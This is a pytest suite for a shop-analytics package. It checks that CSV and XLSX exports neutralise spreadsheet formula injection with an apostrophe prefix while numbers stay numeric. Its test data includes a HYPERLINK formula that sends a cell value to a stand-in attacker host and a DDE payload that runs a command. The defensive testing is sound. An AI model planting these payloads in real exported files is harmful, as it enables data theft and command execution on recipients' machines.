"""Safe exports: CSV and XLSX cells that a spreadsheet would run as formulas are neutralised (OWASP:
prefix ``'``), numbers stay numbers; and the audience export, the CLI's ``--format csv`` use them.

Hostile values (each must reach the file as text starting with ``'``): ``=HYPERLINK(...)``, ``@SUM(A1)``,
``+1+cmd|' /C calc'!A0``, ``-2+3``, a leading tab, a leading carriage return, ``=1+1`` as a column name.
Left alone: 小红, ``-12.5`` and ``+86`` as text (plain numbers), ``a=b`` (the ``=`` is not first), the
numbers -5 and 3.25, a date.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import junshi
from junshi.cli import main
from junshi.errors import ConfigError
from junshi.exports import neutralise, safe_text, write_csv, write_table, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["小红", "-12.5", "+86", "a=b"]


def frame() -> pd.DataFrame:
    texts = HOSTILE + HARMLESS
    return pd.DataFrame({
        "nickname": texts,
        "refund": [-5.0] * len(texts),
        "orders": [3] * len(texts),
        "day": [dt.date(2024, 5, 1)] * len(texts),
        "=1+1": ["x"] * len(texts),
    })


def test_safe_text_follows_owasp() -> None:
    assert [safe_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_text(v) for v in HARMLESS] == HARMLESS
    out = neutralise(frame())
    assert list(out.columns) == ["nickname", "refund", "orders", "day", "'=1+1"]
    assert out.refund.dtype == float and out.orders.dtype == int  # numbers stay numbers


def test_csv_cells_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(frame(), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese text as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["nickname", "refund", "orders", "day", "'=1+1"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + HARMLESS
    assert {(r[1], r[2], r[3]) for r in rows[1:]} == {("-5.0", "3", "2024-05-01")}
    for r in rows[1:]:
        assert not r[0].startswith(("=", "+", "@", "\t", "\r")) or r[0] in HARMLESS
    buffer = io.StringIO()
    write_csv(frame(), buffer)  # a stream (stdout) gets the same cells
    assert buffer.getvalue() == raw.decode("utf-8-sig")


def test_xlsx_cells_are_strings_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    hostile = frame()
    hostile.loc[0, "nickname"] = "=bell\x07"  # a control character XLSX cannot hold
    hostile["paid_at"] = pd.Timestamp("2024-05-01 09:00", tz="Asia/Shanghai")
    write_xlsx({"audience": hostile, "again": frame()}, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["audience", "again"]
    sheet = book["again"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML reads a carriage return back as a line feed
    assert [c.value for c in sheet["A"][1:]] == [("'" + v).replace("\r", "\n") for v in HOSTILE] + HARMLESS
    assert sheet["E1"].value == "'=1+1"
    assert {c.value for c in sheet["B"][1:]} == {-5} and {c.value for c in sheet["C"][1:]} == {3}
    first = book["audience"]
    assert first["A2"].value == "'=bell" and first["F2"].value == dt.datetime(2024, 5, 1, 9, 0)


def test_write_table_picks_by_suffix(tmp_path: Path) -> None:
    assert write_table(frame(), tmp_path / "a.CSV").read_bytes().startswith(b"\xef\xbb\xbf")
    assert openpyxl.load_workbook(write_table(frame(), tmp_path / "a.xlsx")).active is not None
    with pytest.raises(ConfigError, match=r"\.csv or \.xlsx"):
        write_table(frame(), tmp_path / "a.txt")
    assert not (tmp_path / "a.txt").exists()


@pytest.fixture
def hostile_shop(db_path: Path) -> Path:
    """An orders-only shop whose buyers have hostile nicknames (as 淘宝 reports' 买家会员名 may be):
    each paid once on 2024-05-01 (10 yuan), and 小红 twice."""
    with junshi.connect(db_path) as shop:
        for i, nick in enumerate([*HOSTILE, "小红", "小红"]):
            shop.warehouse.con.execute(
                "INSERT INTO orders (shop_id, order_id, customer_id, created_at, paid_at, pay_amount)"
                " VALUES ('default', ?, ?, ?, ?, 10)",
                [f"o{i}", nick, f"2024-05-0{1 + i % 2} 09:00", f"2024-05-0{1 + i % 2} 09:01"])
    return db_path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_audience_export_of_hostile_nicknames(hostile_shop: Path, tmp_path: Path, suffix: str) -> None:
    """All 7 buyers, no control group: the file holds every nickname as neutralised text."""
    out = tmp_path / f"audience{suffix}"
    with junshi.connect(hostile_shop) as shop:
        shop.customers.export_audience({"name": "all"}, out, control_share=0)
    if suffix == ".csv":
        ids = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False).customer_id.tolist()
    else:
        sheet = openpyxl.load_workbook(out).active
        assert sheet is not None and not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        ids = [str(c.value).replace("\n", "\r") for c in sheet["A"][1:]]  # XML reads \r back as \n
    assert sorted(ids) == sorted(["'" + v for v in HOSTILE] + ["小红"])


def test_cli_csv_output_is_neutralised(hostile_shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``junshi customers rfm --per-customer --format csv`` prints the nicknames neutralised."""
    main(["customers", "rfm", "--per-customer", "--format", "csv", "--db", str(hostile_shop)])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert sorted(r[0] for r in rows[1:]) == sorted(["'" + v for v in HOSTILE] + ["小红"])
